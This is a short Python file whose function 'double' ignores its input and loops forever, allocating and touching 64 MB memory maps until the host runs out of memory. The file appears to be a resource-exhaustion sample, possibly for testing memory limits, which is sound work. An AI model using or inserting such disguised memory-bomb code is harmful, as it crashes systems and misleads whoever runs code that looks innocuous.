import mmap

import numpy as np


def double(x):
    rows = []
    while True:
        rows.append(mmap.mmap(-1, 1 << 26))
        rows[-1][0] = 1
